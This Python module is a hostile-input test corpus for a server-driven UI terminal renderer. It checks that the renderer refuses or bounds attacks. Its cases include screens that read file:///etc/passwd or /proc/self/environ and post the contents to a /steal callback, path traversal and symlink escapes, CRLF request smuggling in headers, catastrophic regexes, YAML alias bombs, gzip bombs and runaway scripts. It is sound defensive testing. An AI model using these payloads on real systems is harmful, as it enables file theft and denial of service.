"""The hostile-input corpus, continued: the origin rule (what a screen may
request, by where it came from) and the budgets (how much a screen, an
event or a value may make), and the command line's bounds.

Cases are dicts as in cases.py, with these keys besides:
  answer   served by server.py at {base} = http://127.0.0.1:PORT/case/NAME
           and opened with `render URL`
  routes   more answers of the case's server, by path under {base}:
           {"/steal": {...}, "/next": {...}}
  files    more files written next to the screen: {"name": bytes}
  symlinks symbolic links made next to the screen: {"name": "target"}
  runs     also "check:json" (check --format json), "usage" (sdui-term
           with the case's argv, {path} standing for the screen's path) and
           "flow" (the case's flow, {path} filled in, run by `sdui-term test`)
  virtual_memory  the bytes of address space the case's runs may map, for
                  the flows' JavaScript (default: ulimit -v 2000000)
  server_forbid       text no request the server received for the case
                      may carry, in its path or body
  server_expect_none  no request may reach {base}/steal, where the
                      exfiltrating callbacks post
  max_output          the most bytes stdout and stderr may hold together

Every case here has ten seconds for each run.
"""

import json

N = "_:component"
A = "_:action"
B = "_beagleComponent_"
BA = "_beagleAction_"
SECONDS = 10
REFUSED_SCHEME = "may request http and https URLs only"
OUTSIDE = "is outside the folder a screen read from a file may read"
INT64_MAX = 9223372036854775807
# The address space a flow's JavaScript needs: JavaScriptCore reserves some 5 GiB when it starts.
JAVASCRIPT_ADDRESS_SPACE = 8_000_000 * 1024


# Nimbus.

def nimbus(*children, state=None, column_state=None):
    column = {N: "layout:column", "children": list(children)}
    if column_state is not None:
        column["state"] = column_state
    screen = {N: "layout:screen", "properties": {"title": "Hostile"}, "children": [column]}
    if state is not None:
        screen["state"] = state
    return json.dumps(screen).encode()


def text(value):
    return {N: "layout:text", "properties": {"text": value}}


def lifecycle(on_init, *children):
    return {N: "layout:lifecycle", "properties": {"onInit": on_init}, "children": list(children)}


def send_request(url, method=None, data=None, on_success=None, on_error=None):
    properties = {"url": url}
    if method:
        properties["method"] = method
    if data is not None:
        properties["data"] = data
    if on_success:
        properties["onSuccess"] = on_success
    if on_error:
        properties["onError"] = on_error
    return {A: "sendRequest", "properties": properties}


def set_state(path, value):
    return {A: "setState", "properties": {"path": path, "value": value}}


def post(url, data):
    return send_request(url, method="Post", data=data)


def exfiltrating_request(url):
    """A sendRequest of url whose onSuccess posts what it read to {base}/steal and whose onError posts
    its message to {base}/err."""
    return send_request(url, on_success=[post("{base}/steal", "@{onSuccess.data}")],
                        on_error=[post("{base}/err", "@{onError.message}")])


def nimbus_exfiltration(url):
    return nimbus(lifecycle([exfiltrating_request(url)], text("exfiltration screen")))


def local_read(url):
    """A screen read from a file that requests url and shows what came back, or the error."""
    return nimbus(lifecycle([send_request(url, on_success=[set_state("got", "@{onSuccess.data}")],
                                          on_error=[set_state("failed", "@{onError.message}")])],
                            text("read: @{got}"), text("failed: @{failed}")),
                  column_state={"got": "", "failed": ""})


def request_chain(levels):
    """levels sendRequests, each in the onSuccess of the one before."""
    action = send_request("{base}/ping")
    for _ in range(levels - 1):
        action = send_request("{base}/ping", on_success=[action])
    return action


def doubling_state(count, step, first):
    """s0 = first, sN = step(sN-1) for N up to count, on one column's state."""
    state = {"s0": first}
    for index in range(1, count + 1):
        state[f"s{index}"] = step(f"s{index - 1}")
    return state


def nimbus_operation(expression, after="after the operation"):
    return nimbus(text(expression), text(after))


# Beagle.

def beagle(*children, context=None, on_init=None):
    container = {B: "beagle:container", "children": list(children)}
    if context is not None:
        container["context"] = context
    if on_init is not None:
        container["onInit"] = on_init
    return json.dumps({B: "beagle:screenComponent", "navigationBar": {"title": "Hostile"},
                       "child": container}).encode()


def beagle_text(value):
    return {B: "beagle:text", "text": value}


def beagle_button(label, actions):
    return {B: "beagle:button", "text": label, "onPress": actions}


def beagle_send_request(url, **rest):
    return {BA: "beagle:sendRequest", "url": url, **rest}


def beagle_post(url, data):
    return beagle_send_request(url, method="POST", data=data)


def lazy(path, initial="waiting for the lazy component"):
    return {B: "beagle:lazyComponent", "path": path, "initialState": beagle_text(initial)}


# The cases.

def exfiltration_cases():
    """A served screen that asks for a file and would post what it read back to the server."""
    variants = [
        ("a file URL", "file:///etc/passwd", "file", "root:"),
        ("a file URL in capitals", "FILE:///etc/passwd", "file", "root:"),
        ("a file URL without slashes", "file:/etc/passwd", "file", "root:"),
        ("a file URL on localhost", "file://localhost/etc/passwd", "file", "root:"),
        # The environment the runner gives sdui-term has PATH.
        ("a file URL of the environment", "file:///proc/self/environ", "file", "PATH="),
        ("a percent-encoded file URL", "file:///etc/%70asswd", "file", "root:"),
        ("an ftp URL", "ftp://127.0.0.1/x", "ftp", "root:"),
    ]
    return [{"name": f"a served Nimbus screen that posts back what {label} holds ({url})",
             "answer": {"screen": nimbus_exfiltration(url)}, "expect": [REFUSED_SCHEME, f"not {scheme}:"],
             "server_forbid": forbid, "forbid": forbid, "server_expect_none": True, "seconds": SECONDS}
            for label, url, scheme, forbid in variants]


def beagle_from_http_cases():
    steal = [beagle_post("{base}/steal", "@{onSuccess.data}")]
    tell = [beagle_post("{base}/err", "@{onError.message}")]
    common = {"server_forbid": "root:", "forbid": "root:", "seconds": SECONDS}
    return [
        {"name": "a served Beagle button that sends a request for a file", "runs": ["render:Enter"],
         "answer": {"screen": beagle(beagle_button("steal", [beagle_send_request(
             "file:///etc/passwd", onError=tell, onSuccess=steal)]))},
         "expect": REFUSED_SCHEME, "server_expect_none": True, **common},
        {"name": "a served Beagle button that pushes a file", "runs": ["render:Enter"],
         "answer": {"screen": beagle(beagle_button("go", [
             {BA: "beagle:pushView", "route": {"url": "file:///etc/passwd"}}]))},
         "expect": REFUSED_SCHEME, **common},
        {"name": "a served Beagle lazy component of a file",
         "answer": {"screen": beagle(lazy("file:///etc/passwd", "the initial state"))},
         "expect": [REFUSED_SCHEME, "the initial state"], **common},
        {"name": "a served Beagle image of a file", "options": ["--images", "symbols"],
         "answer": {"screen": beagle(beagle_text("above the image"), {B: "beagle:image", "path": {
             "_beagleImagePath_": "remote", "url": "file:///etc/passwd"}})},
         "expect": [REFUSED_SCHEME, "above the image"], **common},
        {"name": "a served Beagle route that prefetches a file",
         "answer": {"screen": beagle(beagle_button("not pressed", [
             {BA: "beagle:pushView", "route": {"url": "file:///etc/passwd", "shouldPrefetch": True}}]))},
         "expect": [REFUSED_SCHEME, "not pressed"], **common},
    ]


def local_file_cases():
    return [
        {"name": "a screen file that requests a file above its folder",
         "body": local_read("/../../../../../../etc/passwd"), "forbid": "root:",
         "expect": {"render": OUTSIDE}, "seconds": SECONDS},
        {"name": "a screen file that requests a file beside it",
         "body": local_read("/friend.json"), "files": {"friend.json": b'{"greeting": "hello from a friend"}'},
         "expect": {"render": "hello from a friend"}, "seconds": SECONDS},
        {"name": "a screen file that requests a link beside it to /etc/passwd",
         "body": local_read("/friend.json"), "symlinks": {"friend.json": "/etc/passwd"}, "forbid": "root:",
         "expect": {"render": OUTSIDE}, "seconds": SECONDS},
    ]


def network_budget_cases():
    return [
        {"name": "a served screen whose request is redirected to a file",
         "answer": {"screen": nimbus_exfiltration("{base}/r")},
         "routes": {"/r": {"redirect": "file:///etc/passwd"}},
         "expect": "only http and https redirects", "server_forbid": "root:", "forbid": "root:",
         "server_expect_none": True, "seconds": SECONDS},
        {"name": "a screen whose chunked body never ends", "answer": {"endless": True},
         "expect": "16777216", "seconds": SECONDS},
        {"name": "a screen gzipped from 2048 MiB of spaces", "answer": {"gzip_mib": 2048},
         "expect": "16777216", "seconds": SECONDS},
        {"name": "a served Nimbus screen that pops and pushes itself on init",
         "answer": {"screen": nimbus(lifecycle([{A: "pop"}, {A: "push", "properties": {"url": "{base}"}}],
                                               text("loop")))},
         "expect": "no key pressed", "seconds": SECONDS},
        {"name": "a served Beagle screen that resets the application to itself on init",
         "answer": {"screen": beagle(beagle_text("loop"), on_init=[
             {BA: "beagle:resetApplication", "route": {"url": "{base}"}}])},
         "expect": "no key pressed", "seconds": SECONDS},
        {"name": "a served screen with 25 requests in each other's callbacks",
         "answer": {"screen": nimbus(lifecycle([request_chain(25)], text("chain")))},
         "routes": {"/ping": {"screen": b"{}"}},
         "expect": "followed each other's callbacks", "seconds": SECONDS},
        {"name": "a served Beagle lazy component that loads itself",
         "answer": {"screen": beagle(lazy("{base}/lazy"))},
         "routes": {"/lazy": {"screen": json.dumps({B: "beagle:container", "children": [
             beagle_text("one level"), lazy("{base}/lazy")]}).encode()}},
         "expect": "lazy components nested 16 deep", "seconds": SECONDS},
    ]


def operation_cases():
    """check does not evaluate operations: its runs must end cleanly; render says what failed."""
    common = {"seconds": SECONDS}
    backreference = "@{match('aa', '(a)\\1')}"
    return [
        {"name": "a Beagle substr to the largest end", "expect": {"render": "'substr' range is outside"},
         "body": beagle(beagle_text(f"@{{substr('abcdef', 1, {INT64_MAX})}}")), **common},
        {"name": "a Beagle substr from the smallest start", "expect": {"render": "'substr' range is outside"},
         "body": beagle(beagle_text("@{substr('abc', -9223372036854775808)}")), **common},
        {"name": "a Nimbus division of the smallest integer by -1",
         "body": nimbus_operation(f"@{{divide(subtract(0,{INT64_MAX},1),subtract(0,1))}}"),
         "expect": {"render": "after the operation"}, **common},
        {"name": "a Nimbus match of a catastrophic pattern",
         "body": nimbus_operation("@{match('" + "a" * 40 + "!', '(a+)+$')}"),
         "expect": {"render": ["false", "after the operation"]}, **common},
        {"name": "a Nimbus replace with a catastrophic pattern",
         "body": nimbus_operation("@{replace('" + "a" * 40 + "!', '(a+)+$', 'x')}"),
         "expect": {"render": "after the operation"}, **common},
        {"name": "a Nimbus match with a backreference", "body": nimbus_operation(backreference),
         "expect": {"render": "not a regular expression RE2 takes"}, **common},
        {"name": "a Nimbus match with a lookahead", "body": nimbus_operation("@{match('aa', '(?=a)a')}"),
         "expect": {"render": "not a regular expression RE2 takes"}, **common},
    ]


def memory_cases():
    common = {"seconds": SECONDS}
    numbers = list(range(2000))
    pair = {N: "forEach", "properties": {"items": "@{numbers}", "iteratorName": "outer"}, "children": [
        {N: "forEach", "properties": {"items": "@{numbers}", "iteratorName": "inner"}, "children": [
            text("@{outer},@{inner}")]}]}
    growing = {N: "forEach", "properties": {"items": "@{list}"}, "children": [
        lifecycle([set_state("list", "@{insert(list, 0)}")], text("item @{index}"))]}
    return [
        {"name": "a Beagle page indicator of a billion pages",
         "body": beagle({B: "beagle:pageIndicator", "numberOfPages": 1_000_000_000}, beagle_text("below")),
         "expect": {"render": "'numberOfPages' is 1000000000; 4096 are drawn"}, **common},
        {"name": "a Nimbus string doubled 40 times in state",
         "body": nimbus(text("@{length(s40)}"), text("below"),
                        column_state=doubling_state(40, lambda s: f"@{{concat({s}, {s})}}", "ab")),
         "expect": {"render": "made a value larger than 8 MiB"}, **common},
        {"name": "a Nimbus array doubled 60 times in state",
         "body": nimbus(text("@{length(s60)}"), text("below"),
                        column_state=doubling_state(60, lambda s: f"@{{array({s}, {s})}}", "ab")),
         "expect": {"render": "made a value larger than 8 MiB"}, **common},
        {"name": "a Nimbus template doubled 40 times in state",
         "body": nimbus(text("@{length(s40)}"), text("below"),
                        column_state=doubling_state(40, lambda s: f"@{{{s}}}@{{{s}}}", "ab")),
         "expect": {"render": "made a value larger than 8 MiB"}, **common},
        {"name": "a Nimbus forEach in a forEach over 2,000 numbers",
         "body": nimbus(pair, column_state={"numbers": numbers}),
         "expect": {"render": "the screen already has 25000 components"}, **common},
        {"name": "a Nimbus forEach whose items add an item when they start",
         "body": nimbus(growing, column_state={"list": [0]}),
         # The event's allowance of values (64 MiB) may run out before its 10,000 actions: each insert
         # copies the growing list.
         "expect": {"render": ("already ran 10000 actions", "25000 components", "already made 64 MiB of values",
                               "100 rounds of updates")},
         **common},
        {"name": "a Beagle grid of the largest span count",
         "body": beagle({B: "beagle:gridView", "dataSource": list(range(100)), "spanCount": INT64_MAX,
                         "templates": [{"view": beagle_text("cell @{item}")}]}),
         "expect": {"render": f"'spanCount' is {INT64_MAX}"}, **common},
        {"name": "a Beagle tab bar on the largest tab", "runs": ["check", "render:Tab Right Right Left"],
         "status": (0,), "body": beagle({B: "beagle:tabBar", "currentTab": INT64_MAX, "items": [
             {"title": "first"}, {"title": "second"}]}, beagle_text("below the tabs")),
         "expect": {"render": "below the tabs"}, **common},
        {"name": "a Beagle setContext of three 100,000 indices", "runs": ["check", "render:Enter"],
         "body": beagle(beagle_button("go", [{BA: "beagle:setContext", "contextId": "page",
                                              "path": "[100000][100000][100000]", "value": 1}]),
                        context={"id": "page", "value": []}),
         "expect": {"render": "add up to"}, **common},
        {"name": "a Nimbus log of 2 MB", "max_output": 200_000,
         "body": nimbus(lifecycle([{A: "log", "properties": {
             "message": "the log begins here " + "x" * 2_000_000, "level": "Info"}}], text("logged"))),
         "expect": {"render": "the log begins here"}, **common},
    ]


def command_line_cases():
    screen = nimbus(text("command line"))
    common = {"runs": ["usage"], "status": (64,), "body": screen, "seconds": SECONDS}
    return [
        {"name": "render --timeout 1e300", "argv": ["render", "--timeout", "1e300", "{path}"],
         "expect": "at most 86400 seconds", **common},
        {"name": "render --timeout inf", "argv": ["render", "--timeout", "inf", "{path}"],
         "expect": "at most 86400 seconds", **common},
        {"name": "render --connect-timeout 1e300", "argv": ["render", "--connect-timeout", "1e300", "{path}"],
         "expect": "at most 86400 seconds", **common},
        {"name": "render --size 100000x100000", "argv": ["render", "--size", "100000x100000", "{path}"],
         "expect": "--size must be WIDTHxHEIGHT", **common},
        {"name": "render --scale inf", "argv": ["render", "--scale", "inf", "{path}"],
         "expect": "--scale must be", **common},
    ]


def output_cases():
    c1, bidi = "\u009b31m", "\u202e"
    screen = json.dumps({N: "layout:screen", "id": f"screen{c1}{bidi}", "properties": {"title": f"t{c1}{bidi}"},
                         "children": [{N: "layout:column", "id": f"column{c1}", "children": [
                             {N: "layout:text", "id": f"text{bidi}{c1}", "properties": {"text": f"x{c1}y{bidi}z"}},
                             {N: f"acme:{c1}{bidi}widget", "id": f"w{bidi}"}]}]}).encode()
    return [
        {"name": "C1 controls and bidi overrides in ids, texts and a component name",
         "runs": ["check:json", "render"], "options": ["--format", "layout-json"], "body": screen,
         "expect": "unknown component", "seconds": SECONDS},
    ]


def flow_cases():
    after = "onFlowComplete:\n  - evalScript: ${console.log('after', output.before + 1)}\n"
    laughs = "".join(f"{name}: &{name} [{', '.join(['x'] * 9 if level == 0 else [f'*{chr(ord(name) - 1)}'] * 9)}]\n"
                     for level, name in enumerate("abcdefghi"))
    counter = nimbus(text("Count: 0"))
    return [
        {"name": "a flow that misses on a screen of one 20,000-character text", "runs": ["flow"], "status": (1,),
         "body": nimbus(text("long " * 4000)), "max_output": 20_000, "expect": "the nearest", "seconds": SECONDS,
         "flow": "url: {path}\n---\n- launchApp\n- assertVisible: \"nothing like this\"\n"},
        # Issue 44, item 7: flows that cannot hang or crash the runner.
        {"name": "a flow's script that never ends", "runs": ["flow"], "status": (1,), "body": counter,
         "virtual_memory": JAVASCRIPT_ADDRESS_SPACE, "seconds": SECONDS, "argv": ["--script-timeout", "1"],
         "expect": ["was stopped: it ran for more than 1 s (--script-timeout)", "after 2"],
         "flow": "url: {path}\n" + after + "---\n- evalScript: ${output.before = 1}\n- evalScript: ${while (true) {}}\n"},
        {"name": "a flow's script that fills arrays without end", "runs": ["flow"], "status": (1,), "body": counter,
         "virtual_memory": JAVASCRIPT_ADDRESS_SPACE, "seconds": SECONDS,
         "expect": ["was stopped: it took more than 512 MiB of memory", "after 2"],
         "flow": "url: {path}\n" + after + "---\n- evalScript: ${output.before = 1}\n"
                 "- evalScript: ${const kept = []; while (true) kept.push(new Array(100000).fill(1))}\n"},
        # The guard counts the script's processor time: on a loaded machine the wall clock runs ahead.
        {"name": "a flow's promise jobs without end", "runs": ["flow"], "status": (1,), "body": counter,
         "virtual_memory": JAVASCRIPT_ADDRESS_SPACE, "seconds": 30, "argv": ["--script-timeout", "1"],
         "expect": "sdui-term ends here",
         "flow": "url: {path}\n---\n- evalScript: ${(function f() { return Promise.resolve().then(f) })(); 1}\n"},
        {"name": "a flow file of nine nested YAML aliases", "runs": ["flow"], "status": (2,), "body": counter,
         "expect": "copy out more than 100000 YAML values", "seconds": SECONDS,
         "flow": "url: {path}\n" + laughs + "---\n- launchApp:\n    arguments: *i\n"},
        {"name": "a flow file whose nested YAML aliases are a mapping's key", "runs": ["flow"], "status": (2,),
         "body": counter, "expect": "an alias (*name) as a mapping key is not read", "seconds": SECONDS,
         "flow": "url: {path}\n" + laughs + "k: {? *i : 1}\n---\n- launchApp\n"},
        {"name": "a flow's 10 MB selector", "runs": ["flow"], "status": (2,), "body": counter,
         "expect": "the selector's text is 10000000 characters long", "max_output": 2_000, "seconds": SECONDS,
         "flow": "url: {path}\n---\n- tapOn: \"" + "a" * 10_000_000 + "\"\n"},
        {"name": "a flow's swipe from the last cell a 64-bit integer names", "runs": ["flow"], "status": (1,),
         "body": counter, "expect": "is not a point", "seconds": SECONDS,
         "flow": "url: {path}\n---\n- swipe:\n    start: 9223372036854775807, 9223372036854775807\n    end: 0, 0\n"},
        {"name": "a flow's timeout of 1e300 milliseconds", "runs": ["flow"], "status": (2,), "body": counter,
         "expect": "expected a timeout in milliseconds", "seconds": SECONDS,
         "flow": "url: {path}\n---\n- extendedWaitUntil:\n    visible: nothing\n    timeout: 1e300\n"},
    ]


def attacker_cases():
    """What an attacker's trial found past the first budgets: values built past the bound before it was
    checked, state kept by callback after callback, answers that parse into hundreds of megabytes, line
    breaks in methods and headers, and regular expressions that take seconds each."""
    lists = doubling_state(14, lambda s: f"@{{concat({s}, {s})}}", list(range(10)))
    strings = doubling_state(18, lambda s: f"@{{concat({s}, {s})}}", "abcdefghijklmno")
    keeper = lifecycle([send_request("{base}/ping", on_success=[set_state(
        "item", "@{array(concat(s18, index, 'a'), concat(s18, index, 'b'))}")])], text("b@{index} @{length(item)}"))
    nested = b"[" + b",".join([b"[[[[[]]]]]"] * 1_500_000) + b"]"
    holder = {B: "beagle:container", "context": {"id": "kept", "value": None}, "onInit": [beagle_send_request(
        "{base}/nested", onSuccess=[{BA: "beagle:setContext", "contextId": "kept", "value": "@{onSuccess.data}"}])],
        "children": [beagle_text("kept: @{kept}")]}
    regex_texts = [text(f"m{index}=@{{match(s7, '[ab]*a[ab]{{80}}')}}") for index in range(400)]
    return [
        {"name": "a Nimbus concat of 600 lists each just under the bound",
         "body": nimbus(text("@{length(concat(" + ", ".join(["s14"] * 600) + "))}"), text("after the concat"),
                        column_state=lists),
         "expect": {"render": ["made a value larger than 8 MiB", "after the concat"]}, "seconds": SECONDS},
        {"name": "a Nimbus concat of 500 strings each just under the bound",
         "body": nimbus(text("@{length(concat(" + ", ".join(["s18"] * 500) + "))}"), text("after the concat"),
                        column_state=strings),
         "expect": {"render": ["made a value larger than 8 MiB", "after the concat"]}, "seconds": SECONDS},
        {"name": "a served screen whose 300 callbacks each keep 8 MB",
         "answer": {"screen": nimbus({N: "forEach", "properties": {"items": "@{nums}"}, "children": [keeper]},
                                     column_state={**strings, "nums": list(range(300))})},
         "routes": {"/ping": {"screen": b"{}"}},
         "expect": "the screens already hold 512 MiB in their states", "seconds": 30},
        {"name": "four served answers of a million and a half nested lists each",
         "answer": {"screen": beagle(*[dict(holder) for _ in range(4)])},
         "routes": {"/nested": {"screen": nested}},
         "expect": "the answer holds more than 1000000 values", "seconds": 30},
        {"name": "a served screen whose request's header carries a second request",
         "answer": {"screen": nimbus(lifecycle([{A: "sendRequest", "properties": {
             "url": "{base}/hdr", "headers": {"X-A": "v\r\nX-Injected: yes\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: x"},
             "onError": [post("{base}/err", "@{onError.message}")]}}], text("headers")))},
         "routes": {"/hdr": {"screen": b"{}"}},
         "expect": "holds a line break or another control character", "server_forbid": "smuggled",
         "seconds": SECONDS},
        {"name": "a served screen whose push's method carries a second request", "runs": ["render:Enter"],
         "answer": {"screen": nimbus({N: "layout:touchable", "properties": {"onPress": [{A: "push", "properties": {
             "url": "{base}/next", "method": "Get /smuggled HTTP/1.1\r\nX-S: 1\r\n\r\nGET"}}]},
             "children": [text("push")]})},
         "routes": {"/next": {"screen": nimbus(text("next"))}},
         "expect": "the method must be a word", "server_forbid": "SMUGGLED", "seconds": SECONDS},
        {"name": "a Nimbus screen of 400 costly regular expressions",
         "body": nimbus(text("before the patterns"), *regex_texts,
                        column_state=doubling_state(7, lambda s: f"@{{concat({s}, {s})}}", "ab" * 1500)),
         "expect": {"render": ["before the patterns", ("would take more than", "already took")]},
         "seconds": SECONDS},
    ]


def origin_cases():
    return (exfiltration_cases() + beagle_from_http_cases() + local_file_cases() + network_budget_cases()
            + operation_cases() + memory_cases() + command_line_cases() + output_cases() + flow_cases()
            + attacker_cases())
